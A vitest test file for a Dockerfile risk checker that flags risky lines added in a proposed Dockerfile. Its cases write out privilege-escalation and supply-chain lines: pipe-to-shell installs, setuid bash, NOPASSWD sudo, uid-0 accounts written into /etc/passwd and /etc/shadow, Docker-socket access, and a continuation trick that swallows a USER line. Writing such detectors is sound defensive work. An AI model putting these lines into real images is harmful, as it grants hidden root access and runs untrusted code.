import { describe, expect, it } from 'vitest';
import { finalUser, logicalLines } from './dockerfile-lines';
import { dockerfileRiskNotes, type RiskKind } from './dockerfile-risks';

const BASE = 'FROM node:20\nUSER node\nWORKDIR /workspace\n';

/** The kinds flagged for a Dockerfile that adds `lines` (as root, back to node) to BASE. */
function kindsFor(...lines: string[]): RiskKind[] {
  return dockerfileRiskNotes(`${BASE}USER root\n${lines.join('\n')}\nUSER node\n`, BASE).map((note) => note.kind);
}

describe('reading a Dockerfile as Docker does', () => {
  it('joins continuation lines, skipping comments and blanks inside them, and numbers from the first', () => {
    const lines = logicalLines('# syntax comment\nFROM a\nRUN apt-get update \\\n  # a comment\n\n  && apt-get install -y jq\nUSER x\n');
    expect(lines.map((line) => [line.line, line.keyword, line.text])).toEqual([
      [2, 'FROM', 'FROM a'],
      [3, 'RUN', 'RUN apt-get update && apt-get install -y jq'],
      [7, 'USER', 'USER x'],
    ]);
  });

  it('honours an escape directive', () => {
    expect(logicalLines('# escape=`\nFROM a\nRUN echo a `\n  b\n').map((line) => line.text)).toEqual(['FROM a', 'RUN echo a b']);
  });

  it('reads the final user line by line, as a person does', () => {
    expect(finalUser('FROM a\nUSER root\nRUN x \\\nUSER node\n')).toBe('node');
    expect(finalUser('FROM a\n')).toBeNull();
  });
});

describe('risk notes on a proposed Dockerfile', () => {
  it.each<[string, string, RiskKind]>([
    ['curl piped to sh', 'RUN curl -fsSL https://get.example/install.sh | sh', 'pipe-to-shell'],
    ['wget piped to sudo bash', 'RUN wget -qO- https://x.example/i | sudo -E bash -', 'pipe-to-shell'],
    ['curl piped to python', 'RUN curl -s https://x.example/get.py | python3', 'pipe-to-shell'],
    ['bash with process substitution', 'RUN bash <(curl -s https://x.example/i)', 'pipe-to-shell'],
    ['sh -c "$(curl …)"', 'RUN sh -c "$(curl -fsSL https://x.example/i)"', 'pipe-to-shell'],
    ['ADD of a URL', 'ADD https://example.com/tool.tar.gz /opt/', 'remote-add'],
    ['ADD --chmod of a URL', 'ADD --chmod=755 http://example.com/tool /usr/bin/tool', 'remote-add'],
    ['ADD of a git repository', 'ADD git@github.com:me/repo.git /src', 'remote-add'],
    ['a new apt source', 'RUN echo "deb http://ppa.example/ubuntu jammy main" >> /etc/apt/sources.list', 'package-source'],
    ['an apt key', 'RUN curl -s https://x.example/key.gpg | apt-key add -', 'package-source'],
    [
      'a keyring for signed-by',
      'RUN echo "deb [signed-by=/usr/share/keyrings/x.gpg] https://x.example stable main" > /etc/apt/sources.list.d/x.list',
      'package-source',
    ],
    ['add-apt-repository', 'RUN add-apt-repository ppa:deadsnakes/ppa', 'package-source'],
    ['a yum repository', 'RUN yum-config-manager --add-repo https://x.example/x.repo', 'package-source'],
    ['an rpm key', 'RUN rpm --import https://x.example/RPM-GPG-KEY', 'package-source'],
    ['an apk repository', 'RUN echo https://x.example/alpine >> /etc/apk/repositories', 'package-source'],
    ['unauthenticated apt', 'RUN apt-get install -y --allow-unauthenticated foo', 'package-source'],
    ['chmod u+s', 'RUN chmod u+s /usr/bin/find', 'setuid'],
    ['chmod 4755', 'RUN chmod 4755 /usr/local/bin/helper', 'setuid'],
    ['chmod +s', 'RUN chmod +s /bin/bash', 'setuid'],
    ['setcap', 'RUN setcap cap_net_raw+ep /usr/bin/ping', 'setuid'],
    ['passwordless sudo', 'RUN echo "node ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers', 'setuid'],
    ['sudo rights through visudo', 'RUN visudo -cf /tmp/agent-sudo && cp /tmp/agent-sudo /etc/sudoers.d/agent', 'setuid'],
    ['a numeric USER', 'USER 1000', 'numeric-user'],
    ['uid 0 spelled 00', 'USER 00', 'numeric-user'],
    ['uid 0 spelled +0, with a group', 'USER +0:agent', 'numeric-user'],
    ['sed on passwd', "RUN sed -i 's/^agent:x:1000:/agent:x:0:/' /etc/passwd", 'account-edit'],
    ['echo >> passwd', 'RUN echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd', 'account-edit'],
    ['tee onto shadow', 'RUN printf "root::1::::::\\n" | tee /etc/shadow', 'account-edit'],
    ['cp over group', 'RUN cp /tmp/group /etc/group', 'account-edit'],
    ['chpasswd', 'RUN echo "root:root" | chpasswd', 'account-edit'],
    ['a passwd copied in', 'COPY passwd /etc/passwd', 'account-edit'],
    ['a whole /etc copied in', 'COPY etc/ /etc/', 'account-edit'],
    ['usermod -o', 'RUN usermod -o -u 0 agent', 'uid-zero'],
    ['useradd --non-unique', 'RUN useradd --non-unique --uid 1000 twin', 'uid-zero'],
    ['useradd -u 0', 'RUN useradd -u 0 -m boss', 'uid-zero'],
    ['usermod --uid=00', 'RUN usermod --uid=00 agent', 'uid-zero'],
    ['busybox adduser -u 0', 'RUN adduser -D -u0 boss', 'uid-zero'],
    ['--privileged', 'RUN echo "run me with --privileged" > /README', 'privilege'],
    ['the Docker socket', 'ENV DOCKER_HOST=unix:///var/run/docker.sock', 'privilege'],
    ['a capability', 'LABEL needs="--cap-add SYS_ADMIN"', 'privilege'],
    ['LD_PRELOAD', 'ENV LD_PRELOAD=/opt/hook.so', 'privilege'],
    ['npm config set registry', 'RUN npm config set registry https://npm.example.com/', 'custom-registry'],
    ['npm install --registry', 'RUN npm install -g tool --registry=https://npm.example.com', 'custom-registry'],
    ['pip --index-url', 'RUN pip install --index-url https://pypi.example.com/simple tool', 'custom-registry'],
    ['pip --extra-index-url', 'RUN pip3 install --extra-index-url https://x.example tool', 'custom-registry'],
    ['PIP_INDEX_URL', 'ENV PIP_INDEX_URL=https://pypi.example.com/simple', 'custom-registry'],
    ['GOPROXY', 'ENV GOPROXY=https://proxy.example.com', 'custom-registry'],
    ['an .npmrc', 'COPY .npmrc /root/.npmrc', 'custom-registry'],
    ['a global npmrc written by echo', 'RUN echo "registry=https://npm.example.com/" > /etc/npmrc', 'custom-registry'],
    ['gem sources', 'RUN gem sources --add https://gems.example.com/', 'custom-registry'],
  ])('flags %s', (_what, line, kind) => {
    const notes = dockerfileRiskNotes(`${BASE}USER root\n${line}\nUSER node\n`, BASE);
    expect(notes.map((note) => note.kind)).toContain(kind);
    const note = notes.find((entry) => entry.kind === kind);
    expect(note?.line).toBe(5);
    expect(note?.text).toBe(line);
    expect(note?.why).toMatch(/^[^\n]{20,200}$/);
  });

  it.each([
    ['an ordinary apt install', 'RUN apt-get update && apt-get install -y --no-install-recommends jq && rm -rf /var/lib/apt/lists/*'],
    ['a download to a file, not a shell', 'RUN curl -fsSLo /tmp/tool.tgz https://x.example/tool.tgz && tar -xzf /tmp/tool.tgz -C /opt'],
    ['chmod +x', 'RUN chmod +x /usr/local/bin/tool && chmod 755 /opt/x'],
    ['npm install from the default registry', 'RUN npm install -g typescript'],
    ['pip install', 'RUN pip install ruff'],
    ['COPY from the context', 'COPY tool.sh /usr/local/bin/tool.sh'],
    ['ADD of a local file', 'ADD vendor.tar.gz /opt/'],
    ['a user by name', 'USER agent'],
    ['root by name (in the middle: the build needs it)', 'USER root'],
    ['reading passwd', 'RUN grep agent /etc/passwd && id agent'],
    ['an ordinary useradd', 'RUN useradd -m -u 1001 -s /bin/bash builder && usermod -aG builder node'],
  ])('does not flag %s', (_what, line) => {
    expect(kindsFor(line)).toEqual([]);
  });

  it('flags only what the proposal adds: lines kept from the current Dockerfile were reviewed before', () => {
    const current = `${BASE}USER root\nRUN curl -fsSL https://get.example/i | sh\nUSER node\n`;
    expect(dockerfileRiskNotes(`${current}USER root\nRUN apt-get install -y jq\nUSER node\n`, current)).toEqual([]);
    // The same risky line added a second time is new.
    const twice = `${current}USER root\nRUN curl -fsSL https://get.example/i | sh\nUSER node\n`;
    expect(dockerfileRiskNotes(twice, current).map((note) => [note.kind, note.line])).toEqual([['pipe-to-shell', 8]]);
    // Without the current Dockerfile (a project agent's own), everything is looked at.
    expect(dockerfileRiskNotes(current).map((note) => note.kind)).toEqual(['pipe-to-shell']);
  });

  it('flags an image left running as root, unless it already did', () => {
    const rootAtEnd = `${BASE}USER root\nRUN apt-get install -y jq\n`;
    expect(dockerfileRiskNotes(rootAtEnd, BASE)).toEqual([
      { kind: 'root-user', line: 4, text: 'USER root', why: expect.stringMatching(/ends as root/) },
    ]);
    expect(dockerfileRiskNotes(`${BASE}USER 0:0\n`, BASE).map((note) => note.kind)).toEqual(['root-user']);
    // Root under another spelling is root too, and its number gets its own note.
    expect(
      dockerfileRiskNotes(`${BASE}USER 00\n`, BASE)
        .map((note) => note.kind)
        .sort(),
    ).toEqual(['numeric-user', 'root-user']);
    const alreadyRoot = 'FROM a\nUSER root\n';
    expect(dockerfileRiskNotes(`${alreadyRoot}RUN x\n`, alreadyRoot)).toEqual([]);
    // No USER at all: the base image's own user, nothing to say.
    expect(dockerfileRiskNotes('FROM a\nRUN x\n', 'FROM a\n')).toEqual([]);
  });

  it('flags a line continuation that swallows the next instruction (the --run backslash attack)', () => {
    const proposed = `${BASE}USER root\nRUN echo pwned \\\nUSER node\n`;
    const notes = dockerfileRiskNotes(proposed, BASE);
    expect(notes.map((note) => note.kind)).toEqual(['swallowed-line']);
    expect(notes[0]).toMatchObject({
      line: 5,
      text: 'RUN echo pwned USER node',
      why: expect.stringMatching(/"USER node" .*part of this RUN/),
    });
    // A multi-line RUN whose next lines are shell, not instructions, is fine.
    expect(kindsFor('RUN apt-get update \\\n  && apt-get install -y jq')).toEqual([]);
  });

  it('reports several notes in line order, and never throws on junk', () => {
    const proposed = `${BASE}USER root\nRUN chmod u+s /bin/x\nADD https://x.example/a /a\nRUN curl x | sh\n`;
    expect(dockerfileRiskNotes(proposed, BASE).map((note) => [note.line, note.kind])).toEqual([
      [4, 'root-user'],
      [5, 'setuid'],
      [6, 'remote-add'],
      [7, 'pipe-to-shell'],
    ]);
    expect(dockerfileRiskNotes('\\\n\\\n`\u0000\u202e', '')).toEqual(expect.any(Array));
    expect(dockerfileRiskNotes('', '')).toEqual([]);
  });
});
